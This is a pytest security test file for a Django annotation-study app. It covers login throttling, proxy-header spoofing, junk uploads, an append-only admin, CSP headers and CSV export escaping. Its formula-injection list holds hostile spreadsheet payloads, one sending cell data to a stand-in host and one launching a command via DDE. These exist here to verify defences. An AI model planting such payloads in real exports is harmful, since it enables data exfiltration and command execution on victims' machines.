"""Issue 13's attacks, performed through HTTP (Django's test client); each test fails if the
attack succeeds. Staff logins (throttling, password rules, session length), junk prompt files,
the append-only admin, CSV formula injection in the export, the proxy header, the
Content-Security-Policy and the 503 page during a database outage."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.password_validation import validate_password
from django.core.exceptions import ValidationError
from django.db import connection
from django.test import override_settings

from studyapp.models import Annotator, AnnotatorExclusion, ComparisonItem, Prompt, PromptSet, StudyRound, Trial, Vote
from studyapp.stats.csvsafe import escape

from .test_results_rows import add_votes, open_round

pytestmark = pytest.mark.django_db

LOGIN_PAGES = ["/accounts/login/", "/admin/login/"]
PASSWORD = "correct horse battery staple 42"


@pytest.fixture
def staff(django_user_model):
    return django_user_model.objects.create_user("alice", password=PASSWORD, is_staff=True, is_superuser=True)


def logged_in(client) -> bool:
    return "_auth_user_id" in client.session


def attempt(client, page, password, username="alice", ip="203.0.113.7"):
    return client.post(page, {"username": username, "password": password, "next": "/research/"}, REMOTE_ADDR=ip)


# --- item 2: login throttling and password rules -------------------------------------------------


@pytest.mark.parametrize("page", LOGIN_PAGES)
def test_wrong_passwords_up_to_the_limit_then_the_right_one_logs_in(client, staff, settings, page):
    """Just below the limit (limit - 1 failures) the right password still works."""
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert attempt(client, page, "wrong").status_code == 200
        assert not logged_in(client)
    resp = attempt(client, page, PASSWORD)
    assert resp.status_code == 302 and logged_in(client)


@pytest.mark.parametrize("page", LOGIN_PAGES)
def test_at_the_limit_the_right_password_is_refused_with_429(client, staff, settings, page):
    for _ in range(settings.AXES_FAILURE_LIMIT):
        attempt(client, page, "wrong")
    resp = attempt(client, page, PASSWORD)
    assert resp.status_code == 429
    assert not logged_in(client)
    assert b"Too many failed log-ins" in resp.content
    # the other login page is locked too: one lockout per account, not per form
    other = [p for p in LOGIN_PAGES if p != page][0]
    assert attempt(client, other, PASSWORD).status_code == 429 and not logged_in(client)


def test_forty_wrong_passwords_from_forty_addresses_lock_the_account(client, staff):
    """Rotating the client address (as a botnet would) does not evade the per-account lock."""
    for i in range(40):
        attempt(client, "/accounts/login/", f"guess-{i}", ip=f"198.51.100.{i + 1}")
    assert attempt(client, "/accounts/login/", PASSWORD, ip="192.0.2.1").status_code == 429
    assert not logged_in(client)


def test_one_address_guessing_many_accounts_is_locked(client, staff, settings):
    for i in range(settings.AXES_FAILURE_LIMIT):
        attempt(client, "/accounts/login/", "x", username=f"user{i}", ip="203.0.113.9")
    assert attempt(client, "/accounts/login/", PASSWORD, ip="203.0.113.9").status_code == 429
    assert attempt(client, "/accounts/login/", PASSWORD, ip="203.0.113.10").status_code == 302  # another address


def test_forged_forwarded_for_is_ignored_unless_the_proxy_is_trusted(client, staff, settings):
    """Without TRUST_PROXY_HEADERS, X-Forwarded-For cannot make a locked address look new."""
    for _ in range(settings.AXES_FAILURE_LIMIT):
        attempt(client, "/accounts/login/", "x", username="nobody", ip="203.0.113.5")
    resp = client.post("/accounts/login/", {"username": "alice", "password": PASSWORD}, REMOTE_ADDR="203.0.113.5",
                       HTTP_X_FORWARDED_FOR="192.0.2.99")
    assert resp.status_code == 429


def test_client_address_behind_a_trusted_proxy_is_the_last_forwarded_entry(rf, settings):
    from studyapp.middleware import client_ip

    req = rf.get("/", REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="10.9.9.9, 198.51.100.4")
    settings.TRUST_PROXY_HEADERS = False
    assert client_ip(req) == "127.0.0.1"
    settings.TRUST_PROXY_HEADERS = True
    assert client_ip(req) == "198.51.100.4"  # what nginx appended; the client's own entry is ignored


@pytest.mark.parametrize("weak", ["a", "password", "123456789012", "alice-alice"])
def test_weak_staff_passwords_are_refused_in_the_admin(client, staff, weak):
    client.force_login(staff)
    before = get_user_model().objects.count()
    resp = client.post("/admin/auth/user/add/", {"username": "bob", "password1": weak, "password2": weak, "usable_password": "true"})
    assert resp.status_code == 200  # the form again, with the validators' messages
    assert get_user_model().objects.count() == before
    with pytest.raises(ValidationError):
        validate_password(weak, get_user_model()(username="alice"))


def test_password_length_threshold():
    validate_password("kx7-Qp9-zW2v")  # 12 characters: accepted
    with pytest.raises(ValidationError, match="at least 12"):
        validate_password("kx7-Qp9-zW2")  # 11


def test_the_demo_password_passes_the_validators(capsys):
    from studyapp.management.commands.demo import DEMO_USER, Command

    for _ in range(20):  # a fresh random password each time
        Command(stdout=None)._login(True)
        out = capsys.readouterr().out
        password = out.split("password '", 1)[1].split("'", 1)[0]
        validate_password(password, get_user_model().objects.get(username=DEMO_USER))


def test_staff_session_ends_with_the_browser_and_within_a_working_day(client, staff, settings):
    resp = attempt(client, "/accounts/login/", PASSWORD)
    cookie = resp.cookies[settings.SESSION_COOKIE_NAME]
    assert not cookie["expires"] and not cookie["max-age"]  # a browser-session cookie
    assert client.session.get_expiry_age() <= 8 * 3600
    assert settings.SESSION_EXPIRE_AT_BROWSER_CLOSE


# --- item 3: junk prompt files through the import form ------------------------------------------

JUNK_PROMPT_FILES = {
    "nul": (b"prompt\tcategory\na red\x00 cube\tColors\na dog\tAnimals\n", "line 2: contains a NUL character"),
    "200k field": (b"prompt\tcategory\n" + b"x" * 200_000 + b"\tA\n", "line 2: 200002 characters; a line may hold at most 4000"),
    "150k quoted field over many short lines": (b"prompt\n\"" + (b"z" * 3000 + b"\n") * 50 + b"\"\n",
                                                "line 2: cannot be read (field larger than field limit"),
    "150k csv field": (b"prompt,category\n\"" + b"y" * 150_000 + b"\",A\n", "line 2: 150004 characters; a line may hold at most 4000"),
    "unbalanced quote": (b"prompt\tcategory\n\"a red cube\tColors\na dog\tAnimals\na cat\tAnimals\n",
                         "line 2: a quoted field runs on to line 4"),
    "unbalanced quote, header only column": (b"prompt\na cat\n\"a dog\na bird\n", "line 3: a quoted field runs on to line 4"),
    "binary": (bytes(range(256)) * 4, "not UTF-8"),
}


def row_counts():
    return PromptSet.objects.count(), Prompt.objects.count()


@pytest.mark.parametrize("case", sorted(JUNK_PROMPT_FILES))
def test_junk_prompt_file_in_the_import_form_is_a_400_with_the_problem_listed(staff_client, case):
    from django.core.files.uploadedfile import SimpleUploadedFile

    data, expected = JUNK_PROMPT_FILES[case]
    before = row_counts()
    resp = staff_client.post(
        "/research/prompt-sets/import/", {"name": "junk", "file": SimpleUploadedFile("junk.tsv", data)}
    )
    assert resp.status_code == 400
    assert expected in resp.content.decode()
    assert row_counts() == before


@pytest.mark.parametrize("field", ["name", "title", "source"])
def test_nul_in_the_import_forms_text_fields_is_a_400(staff_client, field):
    from django.core.files.uploadedfile import SimpleUploadedFile

    values = {"name": "fine", "title": "t", "source": "s", field: "bad\x00value"}
    before = row_counts()
    resp = staff_client.post("/research/prompt-sets/import/", {**values, "file": SimpleUploadedFile("p.tsv", b"prompt\na cat\n")})
    assert resp.status_code == 400
    assert row_counts() == before


def test_cr_only_line_endings_import_like_lf(staff_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    for name, sep in (("lf-file", b"\n"), ("cr-file", b"\r"), ("crlf-file", b"\r\n")):
        data = sep.join([b"prompt\tcategory", b"a red cube\tColors", b'a "quoted" dog\tAnimals', b"a cat\t"]) + sep
        resp = staff_client.post("/research/prompt-sets/import/", {"name": name, "file": SimpleUploadedFile("p.tsv", data)})
        assert resp.status_code == 302, resp.content.decode()[:2000]
    rows = {n: list(Prompt.objects.filter(prompt_set__name=n).values_list("text", "category")) for n in ("lf-file", "cr-file", "crlf-file")}
    assert rows["lf-file"] == [("a red cube", "Colors"), ('a "quoted" dog', "Animals"), ("a cat", "")]
    assert rows["cr-file"] == rows["lf-file"] == rows["crlf-file"]


# --- item 4: the admin cannot corrupt a study ----------------------------------------------------


@pytest.fixture
def voted_round(round_config):
    rnd = open_round(round_config)
    add_votes(rnd, n_annotators=3)
    return rnd


def record_counts(rnd):
    return (
        Annotator.objects.filter(round=rnd).count(),
        Trial.objects.filter(annotator__round=rnd).count(),
        Vote.objects.filter(trial__annotator__round=rnd).count(),
        list(ComparisonItem.objects.filter(round=rnd).order_by("pk").values_list("assigned", "completed")),
        list(Annotator.objects.filter(round=rnd).order_by("pk").values_list("pseudonym", "status", "qc_status")),
    )


@pytest.fixture
def admin_client(client, staff):
    client.force_login(staff)
    return client


def test_admin_cannot_delete_or_edit_votes_trials_annotators_or_items(admin_client, voted_round):
    before = record_counts(voted_round)
    vote = Vote.objects.filter(trial__annotator__round=voted_round).first()
    trial = vote.trial
    ann = trial.annotator
    item = ComparisonItem.objects.filter(round=voted_round).first()
    for url in (f"/admin/studyapp/vote/{vote.pk}/delete/", f"/admin/studyapp/trial/{trial.pk}/delete/",
                f"/admin/studyapp/annotator/{ann.pk}/delete/", f"/admin/studyapp/comparisonitem/{item.pk}/delete/"):
        assert admin_client.post(url, {"post": "yes"}).status_code == 403, url
    # editing: the change form is a read-only view, and a forged POST is refused
    resp = admin_client.post(f"/admin/studyapp/annotator/{ann.pk}/change/",
                             {"pseudonym": "forged", "status": "new", "qc_status": "pass", "round": voted_round.pk})
    assert resp.status_code == 403
    resp = admin_client.post(f"/admin/studyapp/vote/{vote.pk}/change/", {"choice": "right", "winner": "x"})
    assert resp.status_code == 403
    prompt = item.prompt
    resp = admin_client.post(f"/admin/studyapp/prompt/{prompt.pk}/change/", {"text": "=HYPERLINK(1)", "position": 0})
    assert resp.status_code == 403
    assert Prompt.objects.get(pk=prompt.pk).text == prompt.text
    for model in ("vote", "trial", "annotator", "comparisonitem", "prompt"):
        assert admin_client.post(f"/admin/studyapp/{model}/add/", {}).status_code == 403
    # the bulk "delete selected" action is not offered
    resp = admin_client.post("/admin/studyapp/annotator/", {"action": "delete_selected", "_selected_action": [ann.pk], "post": "yes"})
    assert resp.status_code in (200, 302)
    assert record_counts(voted_round) == before


def test_admin_cannot_delete_a_round_that_has_annotators(admin_client, voted_round):
    before = record_counts(voted_round)
    resp = admin_client.post(f"/admin/studyapp/studyround/{voted_round.pk}/delete/", {"post": "yes"})
    assert resp.status_code in (200, 403)  # the "you may not delete" page, never a 500
    assert StudyRound.objects.filter(pk=voted_round.pk).exists()
    assert record_counts(voted_round) == before


def exclude_via_admin(client, annotators, reason):
    return client.post("/admin/studyapp/annotator/", {
        "action": "exclude_from_analysis", "_selected_action": [a.pk for a in annotators], "reason": reason, "apply": "1",
    })


def export_files(client, rnd) -> dict[str, bytes]:
    resp = client.get(f"/research/rounds/{rnd.pk}/export/round-export.zip")
    assert resp.status_code == 200
    z = zipfile.ZipFile(io.BytesIO(b"".join(resp.streaming_content) if resp.streaming else resp.content))
    return {n.split("/")[-1]: z.read(n) for n in z.namelist()}


def test_exclusion_is_an_explicit_logged_action_that_the_analysis_honours(admin_client, staff, voted_round):
    import json

    from django.contrib.admin.models import LogEntry

    target = Annotator.objects.get(pseudonym=f"ann-{voted_round.pk}-1")
    before_files = export_files(admin_client, voted_round)
    before = record_counts(voted_round)

    # no reason: nothing happens, the form asks again
    resp = exclude_via_admin(admin_client, [target], "   ")
    assert not AnnotatorExclusion.objects.exists()
    # the confirmation page (no "apply" yet) lists the annotator and asks for a reason
    resp = admin_client.post("/admin/studyapp/annotator/", {"action": "exclude_from_analysis", "_selected_action": [target.pk]})
    assert resp.status_code == 200 and target.pseudonym in resp.content.decode() and 'name="reason"' in resp.content.decode()

    resp = exclude_via_admin(admin_client, [target], "Typed the same answer for 40 trials (chat log 12 May)")
    assert resp.status_code == 302
    ex = AnnotatorExclusion.objects.get()
    assert (ex.annotator, ex.excluded_by, ex.excluded_by_name) == (target, staff, "alice")
    assert ex.reason == "Typed the same answer for 40 trials (chat log 12 May)"
    assert LogEntry.objects.filter(object_id=str(target.pk), change_message__startswith="Excluded from the analysis").count() == 1
    # excluding again keeps the first decision
    exclude_via_admin(admin_client, [target], "another reason")
    assert AnnotatorExclusion.objects.get().reason == ex.reason

    # nothing in the record changed: no vote lost or doubled, counters as they were
    assert record_counts(voted_round) == before
    after_files = export_files(admin_client, voted_round)
    rows_before = list(csv.DictReader(io.StringIO(before_files["votes.csv"].decode())))
    rows_after = list(csv.DictReader(io.StringIO(after_files["votes.csv"].decode())))
    assert [r["vote_id"] for r in rows_after] == [r["vote_id"] for r in rows_before]
    assert len(rows_after) == Vote.objects.filter(trial__annotator__round=voted_round).count()
    assert {r["qc_annotator_reasons"] for r in rows_after if r["annotator"] == target.pseudonym} == {f"staff: {ex.reason}"}

    # the analysis: "all" unchanged, "declared" without the annotator, the reason shown
    s0, s1 = json.loads(before_files["summary.json"]), json.loads(after_files["summary.json"])
    assert s1["results"]["all"] == s0["results"]["all"]
    assert s1["results"]["declared"]["annotators"] == s0["results"]["declared"]["annotators"] - 1
    assert {"annotator": target.pseudonym, "reasons": [f"staff: {ex.reason}"]} in s1["exclusions"]["excluded_annotators"]
    assert s1["exclusions"]["staff"] == {"annotators": 1, "votes": s1["exclusions"]["staff"]["votes"]}
    assert s1["exclusions"]["staff"]["votes"] == sum(
        1 for r in rows_after if r["annotator"] == target.pseudonym and r["trial_kind"] == "regular")
    settings_json = json.loads(after_files["settings.json"])
    assert settings_json["staff_exclusions"] == {target.pseudonym: ex.reason}
    # the round page shows it
    page = admin_client.get(f"/research/rounds/{voted_round.pk}/").content.decode()
    assert "staff: Typed the same answer" in page


def test_staff_without_the_permission_cannot_exclude(client, voted_round, django_user_model):
    viewer = django_user_model.objects.create_user("viewer", password=PASSWORD, is_staff=True)
    from django.contrib.auth.models import Permission

    viewer.user_permissions.add(Permission.objects.get(codename="view_annotator"))
    client.force_login(viewer)
    target = Annotator.objects.filter(round=voted_round).first()
    exclude_via_admin(client, [target], "I do not like them")
    assert not AnnotatorExclusion.objects.exists()


# --- item 5: CSV formula injection ----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'quoted"]


def test_formula_prompts_are_neutralised_in_the_downloaded_votes_csv(admin_client, round_config):
    rnd = open_round(round_config)
    prompts = list(Prompt.objects.filter(items__round=rnd).distinct().order_by("pk"))
    for p, formula in zip(prompts, FORMULAS):
        p.text, p.category = formula, "=1+1"
        p.save(update_fields=["text", "category"])
    add_votes(rnd, n_annotators=2)
    resp = admin_client.get(f"/research/rounds/{rnd.pk}/export/votes.csv")
    assert resp.status_code == 200
    body = b"".join(resp.streaming_content) if resp.streaming else resp.content
    for row in csv.reader(io.StringIO(body.decode())):
        for cell in row:
            # no cell a spreadsheet would execute: a formula start is always behind a quote
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell[1:2].isdigit() and escape(cell) == cell, cell
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    cells = {r["prompt"] for r in rows if r["trial_kind"] == "regular"}
    assert {"'" + f for f in FORMULAS} <= cells  # each formula prompt, quoted
    assert {r["category"] for r in rows if r["prompt"].startswith("'")} == {"'=1+1"}


# --- item 6: proxy header, CSP, database outage ---------------------------------------------------


def test_forwarded_proto_is_not_believed_by_default(client, settings):
    settings.SECURE_SSL_REDIRECT = True
    assert settings.SECURE_PROXY_SSL_HEADER is None  # TRUST_PROXY_HEADERS is off in the test environment
    resp = client.get("/accounts/login/", HTTP_X_FORWARDED_PROTO="https")
    assert resp.status_code == 301 and resp["Location"].startswith("https://")


@pytest.mark.parametrize("url", ["/accounts/login/", "/admin/login/", "/research/", "/a/no-such-round/"])
def test_every_page_carries_the_content_security_policy(staff_client, url):
    resp = staff_client.get(url)
    csp = resp["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp.split("script-src", 1)[1].split(";")[0]
    assert "object-src 'none'" in csp and "frame-ancestors 'none'" in csp


def test_no_template_has_inline_script():
    """No <script> with a body, no on...= handler and no javascript: URL in any template (the CSP
    would block them, so a page would silently lose its behaviour)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "templates"
    offenders = []
    for path in root.rglob("*.html"):
        text = path.read_text()
        for m in re.finditer(r"<script\b([^>]*)>(.*?)</script>", text, re.S):
            if "src=" not in m.group(1) or m.group(2).strip():
                offenders.append(f"{path.name}: inline <script>")
        if re.search(r"\son[a-z]+\s*=", text, re.I):
            offenders.append(f"{path.name}: on...= handler")
        if "javascript:" in text.lower():
            offenders.append(f"{path.name}: javascript: URL")
    assert offenders == []
